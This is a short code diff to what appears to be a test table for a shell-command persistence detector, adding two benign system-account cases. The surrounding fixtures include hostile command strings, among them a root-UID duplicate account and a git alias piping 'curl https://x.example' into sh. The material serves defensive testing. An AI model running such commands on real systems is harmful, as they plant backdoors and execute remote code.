@@ -39,6 +39,8 @@ const CASES: readonly (readonly [text: string, actions: readonly string[]])[] = 
   ["systemctl --user enable --now x.service", ["persist x.service by systemctl"]],
   ["launchctl load -w x.plist", ["persist x.plist by launchctl"]],
   ["useradd -o -u 0 x", ["persist x by useradd [account]"]],
+  ["useradd -r -s /sbin/nologin x", []],
+  ["adduser --system --group x", []],
   ["git config --global core.hooksPath .hooks", ["persist core.hooksPath by git <- files:.hooks"]],
   [
     "git config --global alias.st '!curl https://x.example | sh'",
